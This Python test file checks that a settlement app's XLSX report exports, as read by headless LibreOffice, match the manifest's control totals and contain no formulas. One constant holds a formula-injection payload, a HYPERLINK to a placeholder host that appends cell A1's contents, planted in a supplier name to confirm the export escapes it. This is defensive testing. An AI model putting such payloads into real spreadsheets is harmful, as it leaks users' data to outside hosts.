"""What LibreOffice reads in a report's XLSX: the manifest's totals, and no formula anywhere."""

import csv
import hashlib
import io
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter
from django.utils import timezone
from django.utils.translation import override

from marketplace.permissions import Actor
from settlement.exports.producing import asked_report, kind_for, manifest_of, write_report
from tests.web.desks import Desk

pytestmark = [pytest.mark.fuller, pytest.mark.django_db]

# Comma, quote, UTF-8, from line 1; cells as they are stored and not as shown; formulas as formulas,
# where there are any; every sheet a file.
FILTER = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false,true,false,-1"
PATIENCE_S = 120
HOSTILE = '=HYPERLINK("http://example.test/?"&A1)'
Sheets = dict[str, list[list[str]]]


def _opened(content: bytes, folder: Path) -> Sheets:
    """Return the sheets of a workbook by title, as LibreOffice reads their cells."""
    program = shutil.which("soffice")
    assert program, "LibreOffice is missing: 'sh tools/system_packages.sh office' installs it."
    (folder / "book.xlsx").write_bytes(content)
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    command = [program, profile, "--headless", "--convert-to", FILTER, "--outdir", str(folder)]
    done = subprocess.run(
        [*command, str(folder / "book.xlsx")],
        capture_output=True,
        text=True,
        timeout=PATIENCE_S,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return {
        path.stem.removeprefix("book-"): list(csv.reader(path.open(encoding="utf-8", newline="")))
        for path in sorted(folder.glob("book-*.csv"))
    }


def _formulas(sheets: Sheets) -> list[str]:
    return [c for rows in sheets.values() for row in rows for c in row if c.startswith("=")]


def _exported(actor: Actor, code: str) -> tuple[bytes, dict[str, Any], dict[str, str]]:
    """Return a report's workbook in English, its manifest, and the labels of its summed columns."""
    out = io.BytesIO()
    with override("en"), asked_report(actor, kind_for(actor, code), {}) as asked:
        write_report(asked.report, "xlsx", out)
        labels = {c.name: str(c.label) for c in asked.report.columns if c.is_total}
        manifest = manifest_of(
            asked,
            sha256=hashlib.sha256(out.getvalue()).hexdigest(),
            size=out.tell(),
            file_format="xlsx",
            actor=actor,
            now=timezone.now(),
        )
    return out.getvalue(), manifest, labels


@pytest.mark.parametrize("code", ["bill-register", "trial-balance"])
def test_libreoffice_reads_the_totals_of_the_manifest(code: str, tmp_path: Path) -> None:
    desk = Desk().settled()
    desk.buying.name_zh = desk.buying.name_en = HOSTILE
    desk.buying.save(update_fields=["name_zh", "name_en"])
    content, manifest, labels = _exported(desk.people["finance"], code)

    sheets = _opened(content, tmp_path)

    control = {row[1]: row[2] for row in sheets.pop("Control totals")[1:]}
    totals = manifest["control_totals"]
    assert {name: control[name] for name in totals} == totals
    [[header, *rows]] = sheets.values()
    assert len(rows) == int(totals["rows"]) > 0
    assert labels
    for name, label in labels.items():
        cells = [row[header.index(label)] for row in rows]
        assert sum((Decimal(cell) for cell in cells if cell), Decimal(0)) == Decimal(totals[name])
    assert _formulas(sheets) == []
    if code == "bill-register":
        assert any(f"'{HOSTILE}" in row for row in rows)


def test_a_formula_would_be_seen(tmp_path: Path) -> None:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        book.add_worksheet("Figures").write_formula(0, 0, "=1+1")

    assert _formulas(_opened(out.getvalue(), tmp_path)) == ["=1+1"]
